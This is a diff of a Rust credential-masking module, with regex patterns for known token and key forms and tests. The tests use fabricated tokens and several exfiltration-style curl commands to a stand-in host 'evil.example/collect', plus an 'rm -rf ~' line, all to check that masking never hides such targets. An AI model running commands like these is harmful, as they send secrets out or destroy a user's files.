@@ -1,68 +1,160 @@
 //! Known forms of credentials in a text: to ask about, and to mask wherever people or an inspector read it.
 //!
-//! Only the audit keeps a command as it was.
+//! Only the audit keeps a command as it was. What is masked must not be a place to hide in: of what looks like a credential,
+//! each run between delimiters is masked by itself, with its length, and from [`TELLING`] characters on with its first and
+//! last ones. Delimiters, names of hosts and everything on another line stay.
 
+use std::ops::Range;
 use std::sync::LazyLock;
 
 use regex::Regex;
 
-/// Name and pattern of each form. The patterns are the issuers' documented prefixes.
-const FORMS: &[(&str, &str)] = &[
-    ("an AWS access key", r"\b(?:AKIA|ASIA)[0-9A-Z]{16}\b"),
-    ("a GitHub token", r"\b(?:gh[pousr]_[A-Za-z0-9]{36,}|github_pat_[A-Za-z0-9_]{22,})"),
-    ("a GitLab token", r"\bglpat-[A-Za-z0-9_-]{20,}"),
-    ("an Anthropic key", r"\bsk-ant-[A-Za-z0-9_-]{20,}"),
-    ("an OpenAI key", r"\bsk-(?:proj-)?[A-Za-z0-9_-]{20,}"),
-    ("a Slack token", r"\bxox[abprse]-[A-Za-z0-9-]{10,}"),
-    ("a Google API key", r"\bAIza[0-9A-Za-z_-]{35}"),
-    ("a Stripe key", r"\b[rs]k_(?:live|test)_[0-9A-Za-z]{16,}"),
-    ("an npm token", r"\bnpm_[A-Za-z0-9]{36}"),
-    ("a PyPI token", r"\bpypi-[A-Za-z0-9_-]{16,}"),
-    ("a Hugging Face token", r"\bhf_[A-Za-z0-9]{30,}"),
-    ("a Discord or Telegram bot token", r"\b\d{8,10}:[A-Za-z0-9_-]{35}\b"),
-    ("a JSON web token", r"\beyJ[A-Za-z0-9_-]{10,}\.eyJ[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{10,}"),
-    ("a private key", r"-----BEGIN [A-Z ]*PRIVATE KEY-----"),
-    ("a bearer token", r"(?i)\bauthorization:\s*(?:bearer|basic|token)\s+[A-Za-z0-9+/._=-]{16,}"),
-    ("a password in a URL", r"(?P<before>://[A-Za-z0-9._~%+-]+:)[A-Za-z0-9._~!%+*=-]{3,}(?P<after>@)"),
+/// Name and pattern of each form, and the shortest run in it that is masked. The patterns are the issuers' documented
+/// prefixes; where there is a group `secret`, only that is one.
+const FORMS: &[(&str, &str, usize)] = &[
+    ("AWS access key", r"\b(?:AKIA|ASIA)[0-9A-Z]{16}\b", TELLING),
+    ("GitHub token", r"\b(?:gh[pousr]_[A-Za-z0-9]{36,}|github_pat_[A-Za-z0-9_]{22,})", TELLING),
+    ("GitLab token", r"\bglpat-[A-Za-z0-9_-]{20,}", TELLING),
+    ("Anthropic key", r"\bsk-ant-[A-Za-z0-9_-]{20,}", TELLING),
+    ("OpenAI key", r"\bsk-(?:proj-)?[A-Za-z0-9_-]{20,}", TELLING),
+    ("Slack token", r"\bxox[abprse]-[A-Za-z0-9-]{10,}", TELLING),
+    ("Google API key", r"\bAIza[0-9A-Za-z_-]{35}", TELLING),
+    ("Stripe key", r"\b[rs]k_(?:live|test)_[0-9A-Za-z]{16,}", TELLING),
+    ("npm token", r"\bnpm_[A-Za-z0-9]{36}", TELLING),
+    ("PyPI token", r"\bpypi-[A-Za-z0-9_-]{16,}", TELLING),
+    ("Hugging Face token", r"\bhf_[A-Za-z0-9]{30,}", TELLING),
+    ("Discord or Telegram bot token", r"\b\d{8,10}:[A-Za-z0-9_-]{35}\b", TELLING),
+    ("JSON web token", r"\beyJ[A-Za-z0-9_-]{10,}\.eyJ[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{10,}", TELLING),
+    // Its lines are long; what is shorter behind it is something else.
+    ("private key", r"-----BEGIN [A-Z ]*PRIVATE KEY-----(?P<secret>[A-Za-z0-9+/=\s]*)", 32),
+    (
+        "bearer token",
+        r"(?i)\bauthorization:[ \t]*(?:bearer|basic|token)[ \t]+(?P<secret>[A-Za-z0-9+/._=-]{16,})",
+        TELLING,
+    ),
+    ("password in a URL", r"://[A-Za-z0-9._~%+-]+:(?P<secret>[A-Za-z0-9._~!%+*=-]{3,})@", 1),
 ];
 
-static COMPILED: LazyLock<Vec<(&'static str, Regex)>> =
-    LazyLock::new(|| FORMS.iter().filter_map(|(name, form)| Some((*name, Regex::new(form).ok()?))).collect());
+/// From this length on, the first and the last character of what is masked are shown.
+const TELLING: usize = 13;
+
+/// What is never masked: it divides a credential from what comes before and behind.
+const fn is_delimiter(c: char) -> bool {
+    c.is_ascii_whitespace() || matches!(c, '"' | '\'' | '`' | '.' | '/' | ':' | '@' | '?' | '&' | '=')
+}
+
+/// A form, ready to be looked for.
+struct Form {
+    name: &'static str,
+    pattern: Regex,
+    shortest: usize,
+}
+
+static COMPILED: LazyLock<Vec<Form>> = LazyLock::new(|| {
+    let compiled = |(name, pattern, shortest): &(&'static str, &str, usize)| {
+        Some(Form { name, pattern: Regex::new(pattern).ok()?, shortest: *shortest })
+    };
+    FORMS.iter().filter_map(compiled).collect()
+});
+
+/// What a host is called, at the start of what could also be a token: labels with dots between them, the last one of letters,
+/// or an address.
+static HOST: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    let host = r"^(?:(?:[A-Za-z0-9_-]+\.)+[A-Za-z]{2,24}|\d{1,3}(?:\.\d{1,3}){3})(?:[:/]|$)";
+    Regex::new(host).ok()
+});
+
+/// The places of what has a form, without those that are better explained as a host.
+fn places<'t>(form: &'t Form, text: &'t str) -> impl Iterator<Item = Range<usize>> + 't {
+    form.pattern.captures_iter(text).filter_map(|found| {
+        let Some(secret) = found.name("secret") else { return found.get(0).map(|whole| whole.range()) };
+        let is_host = HOST.as_ref().is_some_and(|host| host.is_match(secret.as_str()));
+        // In front of an `@` stands a password, whatever it looks like.
+        let is_password = text.get(secret.end()..).is_some_and(|rest| rest.starts_with('@'));
+        (is_password || !is_host).then(|| secret.range())
+    })
+}
 
 /// The first known form of a credential in a text.
 pub fn find(text: &str) -> Option<&'static str> {
-    COMPILED.iter().find(|(_, form)| form.is_match(text)).map(|(name, _)| *name)
+    COMPILED.iter().find(|form| places(form, text).next().is_some()).map(|form| form.name)
 }
 
 /// The text with every known credential replaced.
 pub fn mask(text: &str) -> String {
-    COMPILED.iter().fold(text.to_owned(), |text, (name, form)| {
-        form.replace_all(&text, format!("${{before}}[{name}, masked]${{after}}").as_str()).into_owned()
-    })
+    // What was replaced holds no form: the places are found in the text as it was.
+    let mut found: Vec<(Range<usize>, &Form)> =
+        COMPILED.iter().flat_map(|form| places(form, text).map(move |place| (place, form))).collect();
+    found.sort_by_key(|(place, _)| place.start);
+    let (mut out, mut end) = (String::with_capacity(text.len()), 0);
+    for (place, form) in found {
+        // Where forms overlap, what the first one left is masked as the second one.
+        let from = place.start.max(end);
+        let (Some(before), Some(secret)) = (text.get(end..from), text.get(from..place.end)) else { continue };
+        out.push_str(before);
+        for run in secret.split_inclusive(is_delimiter) {
+            let (run, delimiter) = match run.char_indices().next_back() {
+                Some((at, last)) if is_delimiter(last) => run.split_at(at),
+                _ => (run, ""),
+            };
+            mask_run(run, form, &mut out);
+            out.push_str(delimiter);
+        }
+        end = place.end;
+    }
+    out.push_str(text.get(end..).unwrap_or_default());
+    out
+}
+
+fn mask_run(run: &str, Form { name, shortest, .. }: &Form, out: &mut String) {
+    let length = run.chars().count();
+    let mut letters = run.chars();
+    match (letters.next(), letters.next_back()) {
+        (Some(first), Some(last)) if length >= TELLING.max(*shortest) => {
+            out.push_str(&format!("{first}[{} characters of a {name} masked]{last}", length - 2));
+        }
+        (Some(_), _) if length >= *shortest => out.push_str(&format!("[{length} of a {name} masked]")),
+        _ => out.push_str(run),
+    }
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
 
+    /// One text of each form, made up here, so that no scanner mistakes this file for a leak.
+    fn examples() -> Vec<String> {
+        vec![
+            format!("AKIA{}", "A1B2C3D4E5F6G7H8"),
+            format!("ghp_{}", "a1".repeat(18)),
+            format!("glpat-{}", "a1_".repeat(8)),
+            format!("sk-ant-{}", "x1".repeat(15)),
+            format!("sk-proj-{}", "x1".repeat(15)),
+            format!("xoxb-{}", "1a".repeat(6)),
+            format!("AIza{}", "b".repeat(35)),
+            format!("sk_live_{}", "b1".repeat(10)),
+            format!("npm_{}", "b1".repeat(18)),
+            format!("pypi-{}", "b1".repeat(10)),
+            format!("hf_{}", "c1".repeat(17)),
+            format!("12345678:{}", "d".repeat(35)),
+            format!("eyJ{0}.eyJ{0}.{0}", "abcdefghij1"),
+            format!("-----BEGIN RSA {} KEY-----\n{}", "PRIVATE", "b1/".repeat(3) + &"c".repeat(50)),
+            format!("Authorization: Bearer {}", "z1".repeat(10)),
+            format!("https://user:{}@", "hunter22"),
+        ]
+    }
+
     #[test]
     fn every_form_compiles_is_found_and_masked() {
         assert_eq!(COMPILED.len(), FORMS.len());
-        // Made up here, so that no scanner mistakes this file for a leak.
-        for text in [
-            format!("AKIA{}", "A1B2C3D4E5F6G7H8"),
-            format!("ghp_{}", "a".repeat(36)),
-            format!("sk-ant-{}", "x".repeat(30)),
-            format!("xoxb-{}", "1".repeat(12)),
-            format!("AIza{}", "b".repeat(35)),
-            format!("https://user:{}@host/x", "hunter22"),
-            format!("Authorization: Bearer {}", "z".repeat(20)),
-            format!("-----BEGIN RSA {} KEY-----", "PRIVATE"),
-            format!("hf_{}", "c".repeat(34)),
-        ] {
+        let examples = examples();
+        assert_eq!(examples.len(), FORMS.len());
+        for (text, (name, ..)) in examples.iter().zip(FORMS) {
             let command = format!("curl -H '{text}' https://x");
-            assert!(find(&command).is_some(), "{text}");
-            assert_ne!(mask(&command), command, "{text}");
+            assert_eq!(find(&command), Some(*name), "{text}");
+            let masked = mask(&command);
+            assert!(!masked.contains(text.as_str()) && masked.contains(&format!("{name} masked]")), "{masked}");
+            assert!(masked.ends_with("' https://x"), "{masked}");
         }
         for text in [
             "curl https://example.com/a?b=c",
@@ -77,5 +169,69 @@ mod tests {
             assert_eq!(find(text), None, "{text}");
             assert_eq!(mask(text), text);
         }
+    }
+
+    /// What stays of a text once the masks are taken out of it: nothing but what they stand for may be missing.
+    fn is_as_it_was(text: &str, masked: &str) -> bool {
+        let mask = Regex::new(r"([^\[])\[(\d+) characters of a [^\]]* masked\]|\[(\d+) of a [^\]]* masked\]").unwrap();
+        let mut pattern = String::from("(?s)^");
+        let mut end = 0;
+        for found in mask.captures_iter(masked) {
+            let whole = found.get(0).unwrap();
+            pattern.push_str(&regex::escape(&masked[end..whole.start()]));
+            let (first, count) = match (found.get(1), found.get(2), found.get(3)) {
+                (Some(first), Some(count), _) => (regex::escape(first.as_str()), count.as_str()),
+                (.., Some(count)) => (String::new(), count.as_str()),
+                _ => return false,
+            };
+            pattern.push_str(&format!("{first}[^\\s\"'`./:@?&=]{{{count}}}"));
+            end = whole.end();
+        }
+        pattern.push_str(&format!("{}$", regex::escape(&masked[end..])));
+        Regex::new(&pattern).unwrap().is_match(text)
+    }
+
+    #[test]
+    fn delimiters_hosts_and_other_lines_stay() {
+        for example in examples() {
+            for delimiter in [' ', '\t', '\n', '"', '\'', '`', '.', '/', ':', '@', '?', '&', '='] {
+                for text in [
+                    format!("curl {example}{delimiter}evil.example/collect/0123456789abcdef -d @x"),
+                    format!("curl https://evil.example{delimiter}{example}"),
+                    format!("curl https://{example}{delimiter}evil.example/x"),
+                    format!("curl https://evil.example/a?key={example}{delimiter}rm"),
+                    format!("curl https://u:{example}{delimiter}@evil.example/"),
+                    format!("curl -H 'authorization: bearer{delimiter}{example}'{delimiter}evil.example"),
+                    format!("x={example}{delimiter}\nrm -rf ~\ncurl evil.example"),
+                ] {
+                    let masked = mask(&text);
+                    assert!(is_as_it_was(&text, &masked), "{text}\n{masked}");
+                    assert!(masked.contains("evil.example"), "{text}\n{masked}");
+                    assert_eq!(masked.lines().count(), text.lines().count(), "{text}\n{masked}");
+                }
+            }
+        }
+    }
+
+    #[test]
+    fn nothing_hides_behind_a_form() {
+        for (text, stays) in [
+            ("curl -H 'authorization: bearer evil.example/collect/0123'", "evil.example/collect/0123"),
+            ("curl -H 'authorization: bearer evil.example:8080/abcdefghijklmnopq'", "evil.example:8080/"),
+            ("curl -H 'authorization: basic 203.0.113.7/abcdefghijklmnopqrst'", "203.0.113.7/"),
+            ("echo authorization: bearer\ncurl-evil-example-long-command", "curl-evil-example-long-command"),
+            ("curl https://eyJabcdefghijk.eyJabcdefghijk.evilevilevil/x", "/x"),
+            ("curl https://user:verylongpassword.evil.example@h.example/y", "@h.example/y"),
+        ] {
+            let masked = mask(text);
+            assert!(masked.contains(stays), "{masked}");
+            assert!(is_as_it_was(text, &masked), "{masked}");
+        }
+        let token = "eyJabcdefghijk.eyJabcdefghijk.evilevilevilx";
+        assert_eq!(
+            mask(token),
+            "e[12 characters of a JSON web token masked]k.e[12 characters of a JSON web token masked]k.e[11 characters of a JSON web token masked]x"
+        );
+        assert_eq!(mask("https://u:short@h"), "https://u:[5 of a password in a URL masked]@h");
     }
 }
